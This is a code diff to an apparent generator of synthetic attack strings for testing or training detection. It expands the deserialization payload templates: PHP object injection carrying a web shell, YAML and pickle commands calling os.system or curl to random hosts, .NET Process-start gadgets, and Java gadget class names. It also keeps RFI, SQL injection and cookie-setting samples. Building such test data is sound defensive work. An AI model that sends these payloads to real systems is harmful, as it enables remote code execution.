@@ -31,6 +31,31 @@ function host(r: () => number): string {
   return r() < 0.2 ? `${1 + Math.floor(r() * 223)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}` : `${word}.${pick(r, ["com", "net", "io", "ru", "xyz", "example"])}`;
 }
 
+function word(r: () => number): string {
+  const letters = "abcdefghijklmnopqrstuvwxyz";
+  const w = Array.from({ length: 3 + Math.floor(r() * 8) }, () => letters[Math.floor(r() * 26)]).join("");
+  return w[0]!.toUpperCase() + w.slice(1);
+}
+
+/** Classes a serialized Java stream names first: gadget chains' entry points and ordinary collections. */
+const JAVA_STREAM_CLASSES = [
+  "java.util.PriorityQueue", "java.util.HashMap", "java.util.HashSet", "javax.management.BadAttributeValueExpException",
+  "sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.functors.InvokerTransformer",
+  "com.sun.rowset.JdbcRowSetImpl", "java.net.URL", "org.hibernate.engine.spi.TypedValue", "java.rmi.server.UnicastRef",
+];
+
+/**
+ * A Java object stream as an exploit sends it: the magic, a class descriptor (its name and a random
+ * serialVersionUID) and a tail, in base64, base64url or hex.
+ */
+function javaStream(r: () => number): string {
+  const name = Buffer.from(pick(r, JAVA_STREAM_CLASSES), "latin1");
+  const random = (n: number) => Array.from({ length: n }, () => Math.floor(r() * 256));
+  const bytes = Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, name.length >> 8, name.length & 255, ...name, ...random(8), 0x02, ...random(4 + Math.floor(r() * 24))]);
+  const form = r();
+  return form < 0.6 ? bytes.toString("base64") : form < 0.8 ? bytes.toString("base64url") : bytes.toString("hex");
+}
+
 const GRAMMAR: Record<AttackClass, Gen[]> = {
   sqli: [
     (r) => `${q(r)}${space(r)}${pick(r, ["or", "OR", "oR", "||"])}${space(r)}${pick(r, ["1=1", "'a'='a", "true", "2>1", "'x' like 'x"])}${tail(r)}`,
@@ -86,8 +111,17 @@ const GRAMMAR: Record<AttackClass, Gen[]> = {
   ],
   rfi: [(r) => `${pick(r, ["http", "https", "ftp"])}://${host(r)}/${pick(r, ["shell.txt", "x.php", "c99.txt", "evil"])}${pick(r, ["?", "%00", "??", ""])}`],
   deserialization: [
-    (r) => pick(r, ["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "aced0005737200116a6176612e7574696c2e48617368", "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x.example/']]]]"]),
-    (r) => `O:${pick(r, ["8", "4", "12"])}:"${pick(r, ["stdClass", "Evil", "Monolog\\Handler"])}":1:{s:${pick(r, ["4", "3"])}:"${pick(r, ["file", "cmd"])}";s:2:"id";}`,
+    javaStream,
+    (r) => {
+      const cls = pick(r, ["stdClass", "Evil", "Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Logger", word(r)]);
+      const prop = pick(r, ["file", "cmd", "data", "path", word(r)]);
+      const value = pick(r, ["id", "/tmp/x.php", "<?php system($_GET[0]); ?>", word(r)]);
+      return `${pick(r, ["O", "C"])}:${cls.length}:"${cls}":1:{s:${prop.length}:"${prop}";s:${value.length}:"${value}";}`;
+    },
+    (r) => `!!python/object/apply:${pick(r, ["os.system", "subprocess.check_output", "os.popen"])} [${JSON.stringify(pick(r, ["id", "whoami", `curl ${host(r)}`]))}]`,
+    (r) => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${host(r)}/"]]]]`,
+    (r) => JSON.stringify({ $type: pick(r, ["System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Diagnostics.Process, System", "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"]), MethodName: "Start", MethodParameters: { $values: ["cmd", `/c ${pick(r, ["calc", "whoami", "ping " + host(r)])}`] } }),
+    (r) => Buffer.from(`\x80\x04c${pick(r, ["os", "posix", "subprocess"])}\n${pick(r, ["system", "popen"])}\n(S'${pick(r, ["id", "whoami", `curl ${host(r)}`])}'\ntR.`, "latin1").toString("base64"),
   ],
   xpath: [(r) => `${pick(r, ["'", '"', "x'"])} ${pick(r, ["or", "and"])} ${pick(r, ["count(/*)=1", "name(/*)='root'", "string-length(name(/*))>0", "count(//user)>0"])}${pick(r, [" or '1'='1", "", " and '1'='1"])}`],
   "session-fixation": [(r) => pick(r, ["<script>document.cookie=\"sessionid=1234;\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "foo\";document.cookie='PHPSESSID=x';//"])],
